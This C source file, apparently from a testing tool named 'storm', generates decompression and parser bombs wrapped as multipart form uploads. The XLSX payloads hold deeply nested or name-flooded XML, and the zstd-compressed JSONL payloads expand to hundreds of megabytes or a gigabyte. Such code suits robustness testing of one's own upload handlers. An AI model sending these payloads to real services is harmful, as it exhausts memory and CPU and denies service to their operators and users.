#include "bombs.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zip.h>
#include <zstd.h>

#include "storm.h"

enum { MIB = 1024 * 1024, SHEET = 8 * MIB - 64 };

static void wrap(const char *field, const char *name, const char *bytes, size_t n,
                 struct bomb *ret_bomb)
{
    char head[200];
    static const char tail[] = "\r\n--bomb--\r\n";
    int len = snprintf(head, sizeof head,
                       "--bomb\r\nContent-Disposition: form-data; name=\"%s\"; filename=\"%s\"\r\n"
                       "Content-Type: application/octet-stream\r\n\r\n",
                       field, name);

    ret_bomb->size = (size_t)len + n + sizeof tail - 1;
    ret_bomb->bytes = malloc(ret_bomb->size);
    if (!ret_bomb->bytes)
        storm_die("memory");
    memcpy(ret_bomb->bytes, head, (size_t)len);
    memcpy(ret_bomb->bytes + len, bytes, n);
    memcpy(ret_bomb->bytes + (size_t)len + n, tail, sizeof tail - 1);
}

/* ---- XLSX ------------------------------------------------------------------------------------ */

static void pack_sheet(const char *sheet, size_t n, struct bomb *ret_bomb)
{
    static const char more[] = "--bomb\r\nContent-Disposition: form-data; name=\"_more\"\r\n\r\n"
                               "roster\r\n";
    zip_error_t error;
    zip_stat_t status;
    zip_source_t *out = zip_source_buffer_create(NULL, 0, 0, &error);

    zip_source_keep(out);
    zip_t *zip = zip_open_from_source(out, ZIP_TRUNCATE, &error);
    if (!zip ||
        zip_file_add(zip, "xl/worksheets/sheet1.xml", zip_source_buffer(zip, sheet, n, 0), 0) < 0 ||
        zip_close(zip) || zip_source_open(out) || zip_source_stat(out, &status))
        storm_die("zip");
    char *bytes = malloc(status.size);
    if (!bytes || zip_source_read(out, bytes, status.size) != (zip_int64_t)status.size)
        storm_die("zip");
    zip_source_close(out);
    zip_source_free(out);
    struct bomb file;
    wrap("roster", "roster.xlsx", bytes, status.size, &file);
    free(bytes);
    ret_bomb->bytes = malloc(file.size + sizeof more);
    if (!ret_bomb->bytes)
        storm_die("memory");
    memcpy(ret_bomb->bytes, more, sizeof more - 1);
    memcpy(ret_bomb->bytes + sizeof more - 1, file.bytes, file.size);
    ret_bomb->size = file.size + sizeof more - 1;
    free(file.bytes);
}

void bomb_xlsx_nested(struct bomb *ret_bomb)
{
    char *sheet = malloc(SHEET);
    size_t n = 0;

    if (!sheet)
        storm_die("memory");
    while (n + 3 <= SHEET) {
        memcpy(sheet + n, "<a>", 3);
        n += 3;
    }
    pack_sheet(sheet, n, ret_bomb);
    free(sheet);
}

void bomb_xlsx_names(struct bomb *ret_bomb)
{
    char *sheet = malloc(SHEET + 64);
    size_t n = (size_t)sprintf(sheet, "<w>");

    for (int i = 0; n < SHEET - 64; i++)
        n += (size_t)sprintf(sheet + n, "<e%x a%x=''/>", i, i);
    n += (size_t)sprintf(sheet + n, "</w>");
    pack_sheet(sheet, n, ret_bomb);
    free(sheet);
}

void bomb_xlsx_huge(struct bomb *ret_bomb)
{
    size_t n = (size_t)256 * MIB;
    char *sheet = malloc(n);

    if (!sheet)
        storm_die("memory");
    memset(sheet, ' ', n);
    pack_sheet(sheet, n, ret_bomb);
    free(sheet);
}

/* ---- zstd ------------------------------------------------------------------------------------ */

/* `text` again and again until there are `total` bytes. */
static void pack_lines(const char *text, size_t total, int window, const char *name,
                       struct bomb *ret_bomb)
{
    enum { PIECE = MIB, MOST = 16 * MIB };
    ZSTD_CCtx *packer = ZSTD_createCCtx();
    char *piece = malloc(PIECE), *out = malloc(MOST);
    ZSTD_outBuffer packed = {out, MOST, 0};
    size_t len = strlen(text), full = PIECE / len * len;

    if (!packer || !piece || !out)
        storm_die("memory");
    for (size_t i = 0; i < full; i++)
        piece[i] = text[i % len];
    ZSTD_CCtx_setParameter(packer, ZSTD_c_windowLog, window);
    for (size_t done = 0; done < total; done += full) {
        ZSTD_inBuffer in = {piece, full, 0};
        bool last = done + full >= total;
        size_t left;

        do
            left = ZSTD_compressStream2(packer, &packed, &in, last ? ZSTD_e_end : ZSTD_e_continue);
        while (!ZSTD_isError(left) && (in.pos < in.size || (last && left)));
        if (ZSTD_isError(left) || packed.pos == packed.size)
            storm_die("zstd");
    }
    wrap("file", name, out, packed.pos, ret_bomb);
    ZSTD_freeCCtx(packer);
    free(piece);
    free(out);
}

void bomb_zstd_lines(struct bomb *ret_bomb)
{
    pack_lines("{}\n", (size_t)256 * MIB, 20, "bomb.jsonl.zst", ret_bomb);
}

void bomb_zstd_one_line(struct bomb *ret_bomb)
{
    pack_lines(" ", (size_t)1024 * MIB, 20, "bomb.jsonl.zst", ret_bomb);
}

void bomb_zstd_window(struct bomb *ret_bomb)
{
    pack_lines("{}\n", (size_t)64 * MIB, 27, "bomb.jsonl.zst", ret_bomb);
}
